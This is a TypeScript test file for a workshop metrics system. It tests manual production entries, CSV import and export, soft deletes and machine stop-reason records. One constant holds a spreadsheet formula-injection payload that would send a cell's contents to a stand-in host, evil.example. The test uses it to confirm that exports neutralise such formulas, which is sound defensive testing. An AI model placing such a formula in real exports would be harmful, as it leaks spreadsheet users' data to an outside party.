import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { Registry } from '../../src/compose/registry.js';
import { ManualEntryRepository, StopReasonRepository, writeManualEntryCsv } from '../../src/metrics/index.js';
import { DIALECTS, startTestRegistry } from './registry-fixtures.js';

/** 2026-03-05 10:00 KST: "today" for the repositories under test. */
const NOW = Date.UTC(2026, 2, 5, 1, 0);
const kstMidnight = (y: number, m: number, d: number) => Date.UTC(y, m - 1, d) - 9 * 3_600_000;
const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"details")';
const T0 = Date.UTC(2026, 2, 4, 0, 0);
const MIN = 60_000;

describe.each(DIALECTS)('manual entries and stop reasons on %s', (dialect) => {
  let registry: Registry;
  let close: () => Promise<void>;
  let entries: ManualEntryRepository;
  let stops: StopReasonRepository;
  const changes: [string, number, number][] = [];

  beforeAll(async () => {
    ({ registry, close } = await startTestRegistry(dialect));
    for (const id of ['ws-1', 'ws-2']) {
      await registry.workshops.create({ id, nameKo: '공방', nameEn: 'Shop', industry: 'jewelry' });
    }
    await registry.products.put('ws-1', { id: 'ring-01', name: '반지' });
    const onChange = (w: string, fromMs: number, toMs: number) => {
      changes.push([w, fromMs, toMs]);
    };
    entries = new ManualEntryRepository(registry.db, { onChange, now: () => NOW });
    stops = new StopReasonRepository(registry.db, { onChange, now: () => NOW, dialect });
  });
  afterAll(async () => await close?.());
  beforeEach(() => {
    changes.length = 0;
  });

  it('keeps who entered an entry and when, and reports its KST day as changed', async () => {
    const e = await entries.add(
      'ws-1',
      { day: '2026-03-03', shift: 0, productId: 'ring-01', workerId: 'kim', pq: 40, sq: 2, rq: 1, workS: 28_800 },
      'user-owner',
    );
    expect(e).toMatchObject({ enteredBy: 'user-owner', enteredAt: new Date(NOW).toISOString(), machineId: null });
    expect(await entries.list('ws-1', '2026-03-03', '2026-03-03')).toEqual([e]);
    expect(await entries.list('ws-1', '2026-03-04', '2026-03-05')).toEqual([]);
    expect(await entries.list('ws-2', '2026-03-01', '2026-03-31')).toEqual([]);
    expect(changes).toEqual([['ws-1', kstMidnight(2026, 3, 3), kstMidnight(2026, 3, 4)]]);
  });

  it('refuses a bad entry with every reason in Korean and English, and stores nothing', async () => {
    await expect(entries.add('ws-1', { day: '2026-03-06', pq: 5, sq: 4, rq: 2, shift: 4 }, 'u')).rejects.toMatchObject({
      code: 'invalid',
      extra: {
        issues: [
          { path: 'day', message: expect.stringMatching(/미래.* \/ .*future/) },
          { path: 'shift', message: expect.stringContaining('0–3') },
          { path: 'sq', message: expect.stringContaining('sq + rq is more than pq') },
        ],
      },
    });
    await expect(entries.add('ws-1', { day: '2026-03-05', pq: 5, productId: 'cup' }, 'u')).rejects.toMatchObject({
      code: 'invalid',
      message: expect.stringContaining('unknown product'),
    });
    await expect(entries.add('ws-9', { day: '2026-03-05', pq: 5 }, 'u')).rejects.toMatchObject({ code: 'not_found' });
    expect(await entries.list('ws-1', '2026-03-05', '2026-03-06')).toEqual([]);
    expect(changes).toEqual([]);
  });

  it('deletes softly: the entry stops counting but keeps who deleted it and when', async () => {
    const e = await entries.add('ws-1', { day: '2026-03-04', pq: 7 }, 'user-owner');
    changes.length = 0;
    await expect(entries.remove('ws-2', e.id, 'user-x')).rejects.toMatchObject({ code: 'not_found' });
    await entries.remove('ws-1', e.id, 'user-tech');
    expect((await entries.list('ws-1', '2026-03-04', '2026-03-04')).map((x) => x.id)).not.toContain(e.id);
    const row = await registry.db.selectFrom('manual_entries').selectAll().where('id', '=', e.id).executeTakeFirst();
    expect(row).toMatchObject({
      entered_by: 'user-owner',
      deleted_by: 'user-tech',
      deleted_at: new Date(NOW).toISOString(),
      pq: 7,
    });
    await expect(entries.remove('ws-1', e.id, 'user-tech')).rejects.toMatchObject({ code: 'not_found' });
    expect(changes).toEqual([['ws-1', kstMidnight(2026, 3, 4), kstMidnight(2026, 3, 5)]]);
  });

  it('imports all or nothing, naming the line and column of every problem', async () => {
    const csv = [
      'day,shift,machine,product,worker,pq,sq,rq,hours,note',
      '2026-02-02,0,press-1,ring-01,kim,100,3,2,8,"한 줄',
      '또 한 줄"',
      '2026-02-03,0,press-1,cup,kim,100,3,2,8,',
      '2026-02-04,5,press-1,,kim,10,8,8,25,',
      '2026-03-09,,,,,abc,,,,',
      '2026-02-05,0,press-1,,lee,50,0,0,8,ok',
    ].join('\n');
    const r = await entries.importCsv('ws-1', csv, 'user-tech');
    expect(r.imported).toBe(0);
    expect(r.errors.map((e) => [e.line, e.column])).toEqual([
      [4, 'product'],
      [5, 'shift'],
      [5, 'sq'],
      [5, 'hours'],
      [6, 'day'],
      [6, 'pq'],
    ]);
    for (const e of r.errors) expect(e.message).toMatch(/[가-힣].* \/ [a-z]/);
    expect(await entries.list('ws-1', '2026-02-01', '2026-02-28')).toEqual([]);
    expect(changes).toEqual([]);
  });

  it('imports Korean headers, keeps a formula-looking note as text, and exports it neutralised', async () => {
    const csv = `\uFEFF날짜,교대,설비,제품,작업자,생산수량,폐기,재작업,작업시간,비고\r\n2026-02-10,1,,ring-01,kim,120,4,1,7.5,"${EVIL.replace(/"/g, '""')}"\r\n2026-02-11,,,,,80,,,,\r\n2026-02-13,,,,,30,,,,\r\n`;
    const r = await entries.importCsv('ws-1', csv, 'user-owner');
    expect(r).toEqual({ imported: 3, errors: [] });
    const listed = await entries.list('ws-1', '2026-02-10', '2026-02-13');
    expect(listed.map((e) => [e.day, e.pq, e.sq, e.rq, e.workS, e.note, e.enteredBy])).toEqual([
      ['2026-02-10', 120, 4, 1, 27_000, EVIL, 'user-owner'],
      ['2026-02-11', 80, 0, 0, null, null, 'user-owner'],
      ['2026-02-13', 30, 0, 0, null, null, 'user-owner'],
    ]);
    // Consecutive days are one change; the gap day (02-12) is not reported.
    expect(changes).toEqual([
      ['ws-1', kstMidnight(2026, 2, 10), kstMidnight(2026, 2, 12)],
      ['ws-1', kstMidnight(2026, 2, 13), kstMidnight(2026, 2, 14)],
    ]);
    const exported = writeManualEntryCsv(listed);
    expect(exported).toContain(`'=HYPERLINK`);
    expect(exported).not.toMatch(/(^|,)=HYPERLINK/m);
    // What the export wrote imports back as the same figures (new ids, new provenance).
    const again = await entries.importCsv('ws-2', exported.replace(/ring-01/g, ''), 'user-admin');
    expect(again).toEqual({ imported: 3, errors: [] });
    const back = await entries.list('ws-2', '2026-02-10', '2026-02-13');
    expect(back.map((e) => [e.day, e.pq, e.workS, e.note])).toEqual(listed.map((e) => [e.day, e.pq, e.workS, e.note]));
  });

  it('replaces overlapping reasons of the same machine and keeps the old ones for audit', async () => {
    const a = await stops.classify(
      'ws-1',
      { machineId: 'press-1', startMs: T0, endMs: T0 + 10 * MIN, reason: 'breakdown' },
      'user-tech',
    );
    expect(a).toEqual({
      machineId: 'press-1',
      startMs: T0,
      endMs: T0 + 10 * MIN,
      reason: 'breakdown',
      by: 'user-tech',
      at: new Date(NOW).toISOString(),
    });
    await stops.classify('ws-1', { machineId: 'press-2', startMs: T0, endMs: T0 + 30 * MIN, reason: 'no_order' }, 'u');
    // Touching, not overlapping: stays.
    await stops.classify(
      'ws-1',
      { machineId: 'press-1', startMs: T0 + 20 * MIN, endMs: T0 + 25 * MIN, reason: 'material_wait' },
      'u',
    );
    changes.length = 0;
    await stops.classify(
      'ws-1',
      { machineId: 'press-1', startMs: T0 + 5 * MIN, endMs: T0 + 20 * MIN, reason: 'setup' },
      'user-owner',
    );
    const current = await stops.list('ws-1', T0, T0 + 60 * MIN);
    expect(current.map((s) => [s.machineId, s.startMs, s.endMs, s.reason])).toEqual([
      ['press-2', T0, T0 + 30 * MIN, 'no_order'],
      ['press-1', T0 + 5 * MIN, T0 + 20 * MIN, 'setup'],
      ['press-1', T0 + 20 * MIN, T0 + 25 * MIN, 'material_wait'],
    ]);
    for (const s of current) expect(typeof s.startMs).toBe('number');
    expect((await stops.list('ws-1', T0, T0 + 60 * MIN, 'press-2')).map((s) => s.reason)).toEqual(['no_order']);
    expect(await stops.list('ws-1', T0 + 30 * MIN, T0 + 60 * MIN)).toEqual([]);
    expect(await stops.list('ws-2', T0, T0 + 60 * MIN)).toEqual([]);
    const old = await registry.db
      .selectFrom('stop_reasons')
      .selectAll()
      .where('reason', '=', 'breakdown')
      .executeTakeFirstOrThrow();
    expect(old).toMatchObject({ classified_by: 'user-tech', replaced_at: new Date(NOW).toISOString() });
    // The replaced breakdown's time lost its reason too: the change starts where it started.
    expect(changes).toEqual([['ws-1', T0, T0 + 20 * MIN]]);
  });

  it('refuses unknown reasons naming the allowed ones, and stops that end before they start', async () => {
    const stop = { machineId: 'press-1', startMs: T0, endMs: T0 + MIN };
    await expect(stops.classify('ws-1', { ...stop, reason: 'coffee' }, 'u')).rejects.toMatchObject({
      code: 'invalid',
      message: expect.stringMatching(/allowed: material_wait, breakdown, setup, no_order, break, quality_check, other/),
    });
    await expect(stops.classify('ws-1', { ...stop, endMs: T0, reason: 'break' }, 'u')).rejects.toMatchObject({
      code: 'invalid',
    });
    await expect(
      stops.classify('ws-1', { ...stop, startMs: NOW + MIN, endMs: NOW + 2 * MIN, reason: 'break' }, 'u'),
    ).rejects.toMatchObject({ code: 'invalid', message: expect.stringContaining('future') });
    await expect(stops.classify('ws-9', { ...stop, reason: 'break' }, 'u')).rejects.toMatchObject({
      code: 'not_found',
    });
    expect(changes).toEqual([]);
  });

  it('drops the entries and reasons of a deleted workshop with it', async () => {
    await registry.workshops.create({ id: 'ws-gone', nameKo: '폐업', nameEn: 'Closed', industry: 'other' });
    await entries.add('ws-gone', { day: '2026-03-01', pq: 1 }, 'u');
    await stops.classify('ws-gone', { machineId: 'm', startMs: T0, endMs: T0 + MIN, reason: 'break' }, 'u');
    await registry.workshops.remove('ws-gone');
    const left = async (t: 'manual_entries' | 'stop_reasons') =>
      (await registry.db.selectFrom(t).select('id').where('workshop_id', '=', 'ws-gone').execute()).length;
    expect([await left('manual_entries'), await left('stop_reasons')]).toEqual([0, 0]);
  });
});
